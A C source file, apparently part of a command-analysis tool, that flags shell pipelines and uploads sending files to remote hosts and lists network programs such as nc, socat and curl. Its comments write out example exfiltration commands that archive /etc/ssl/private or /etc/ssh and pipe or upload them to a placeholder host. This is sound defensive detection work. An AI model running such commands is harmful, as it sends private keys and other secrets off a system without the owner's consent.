/* Files sent to another computer: what a pipeline's earlier commands read,
 * piped into a network program (tar czf - /etc/ssl/private | nc HOST PORT),
 * or what scp and rsync copy to HOST:PATH. Added as the command
 * "(chain) send-out DESTINATION" whose values are the files, so a rule can
 * name them and rate the secret ones (rules/60-data-network.yaml). */
#include "chains.h"

#include "util/grow.h"
#include "util/xmalloc.h"

#include <string.h>

static int one_of(const char *name, const char *const *names)
{
	for (; *names; names++)
		if (strcmp(name, *names) == 0)
			return 1;
	return 0;
}

/* The other computer a network program talks to: its first operand that
 * looks like a host or address, else its first operand. */
static const char *destination(const struct real_command *c)
{
	for (size_t i = 0; i < c->operands.n; i++)
		if (strpbrk(c->operands.items[i], ".:@") != NULL)
			return c->operands.items[i];
	return c->operands.n > 0 ? c->operands.items[0] : NULL;
}

/* scp/rsync's HOST:PATH target, or a cloud copy's bucket (s3://, gs://),
 * or NULL. */
static const char *remote_target(const struct real_command *c)
{
	static const char *const copiers[] = {"scp", "rsync", NULL};
	static const char *const clouds[] = {"aws", "gsutil", "s3cmd", "rclone", "azcopy", NULL};
	int cloud = one_of(c->name, clouds);

	if (!one_of(c->name, copiers) && !cloud)
		return NULL;
	for (size_t i = 0; i < c->writes.n; i++)
		if (strchr(c->writes.items[i], ':') &&
		    (cloud || !strstr(c->writes.items[i], "://")))
			return c->writes.items[i];
	return NULL;
}

static void add_send(struct analysis *a, const char *dest, const struct strlist *files)
{
	struct real_command *c;

	a->cmds = grow_array(a->cmds, a->n, sizeof(*a->cmds));
	c = &a->cmds[a->n++];
	memset(c, 0, sizeof(*c));
	c->name = xstrdup(CHAIN_COMMAND);
	c->path = xstrdup(CHAIN_COMMAND);
	strlist_add(&c->args, "send-out");
	strlist_add(&c->operands, "send-out");
	strlist_add(&c->args, dest);
	strlist_add(&c->operands, dest);
	for (size_t i = 0; i < files->n; i++)
		if (strcmp(files->items[i], dest) != 0 && strstr(files->items[i], "://") == NULL)
			strlist_add(&c->values, files->items[i]);
}

/* curl -T FILE, --data-binary @FILE, -F x=@FILE; wget --post-file FILE:
 * the files it uploads, and the place they go. */
static const char *uploads(const struct real_command *c, struct strlist *files)
{
	static const char *const uploaders[] = {"curl", "wget", NULL};

	if (!one_of(c->name, uploaders))
		return NULL;
	for (size_t i = 0; i < c->values.n; i++) {
		const char *v = c->values.items[i], *at = strchr(v, '@');
		if (at && (at[1] == '/' || at[1] == '~' || at[1] == '.'))
			strlist_add(files, at + 1);
	}
	for (size_t i = 0; i < c->opts.n; i++)
		if (strcmp(c->opts.items[i], "T") == 0 ||
		    strcmp(c->opts.items[i], "upload-file") == 0 ||
		    strcmp(c->opts.items[i], "post-file") == 0)
			for (size_t f = 0; f < c->reads.n; f++)
				strlist_add(files, c->reads.items[f]);
	return files->n > 0 ? destination(c) : NULL;
}

static int listed(const struct strlist *l, const char *s)
{
	for (size_t i = 0; i < l->n; i++)
		if (strcmp(l->items[i], s) == 0)
			return 1;
	return 0;
}

/* An archive or copy made earlier on the line and sent now (zip -r K.zip
 * /etc/ssh && curl -T K.zip ...): what went into it is sent too. */
static void packed_earlier(const struct analysis *a, size_t i, struct strlist *files)
{
	size_t n = files->n;

	for (size_t k = 0; k < i; k++) {
		const struct real_command *p = &a->cmds[k];
		int makes = 0;
		for (size_t f = 0; f < n; f++)
			makes |= listed(&p->reads, files->items[f]) ||
				 listed(&p->writes, files->items[f]) ||
				 listed(&p->values, files->items[f]);
		for (size_t f = 0; makes && f < p->reads.n; f++)
			if (!listed(files, p->reads.items[f]))
				strlist_add(files, p->reads.items[f]);
	}
}

/* nc -l: waits for others to connect, sends to no one named. */
static int listens(const struct real_command *c)
{
	for (size_t i = 0; i < c->opts.n; i++)
		if (strcmp(c->opts.items[i], "l") == 0 || strcmp(c->opts.items[i], "listen") == 0)
			return 1;
	return 0;
}

/* The files read by the commands piping, one after another, into cmds[i]. */
static void piped_reads(const struct analysis *a, size_t i, struct strlist *out)
{
	for (size_t k = i; k-- > 0 && a->cmds[k].piped_to != NULL;)
		for (size_t f = 0; f < a->cmds[k].reads.n; f++)
			strlist_add(out, a->cmds[k].reads.items[f]);
}

void chains_find_sends(struct analysis *a)
{
	static const char *const network[] = {"nc",  "ncat",	"netcat", "socat",	"curl",
					      "ssh", "openssl", "telnet", "nc.openbsd", NULL};
	static const char *const raw_network[] = {"nc",	    "ncat",	  "netcat", "socat",
						  "telnet", "nc.openbsd", NULL};
	size_t n = a->n;

	for (size_t i = 0; i < n; i++) {
		const struct real_command *c = &a->cmds[i];
		const char *dest = remote_target(c);
		struct strlist files = {0};
		if (dest) {
			for (size_t f = 0; f < c->reads.n; f++)
				if (strcmp(c->reads.items[f], dest) != 0)
					strlist_add(&files, c->reads.items[f]);
		} else if (c->piped_from && one_of(c->name, network)) {
			dest = destination(c);
			piped_reads(a, i, &files);
		} else if (one_of(c->name, raw_network) && c->reads.n > 0 && !listens(c)) {
			dest = destination(c); /* nc HOST PORT < FILE; not nc -e PROGRAM */
			for (size_t f = 0; f < c->reads.n; f++)
				if (!listed(&c->values, c->reads.items[f]))
					strlist_add(&files, c->reads.items[f]);
		} else {
			dest = uploads(c, &files);
		}
		if (dest)
			packed_earlier(a, i, &files);
		if (dest && files.n > 0)
			add_send(a, dest, &files);
		strlist_free(&files);
	}
}
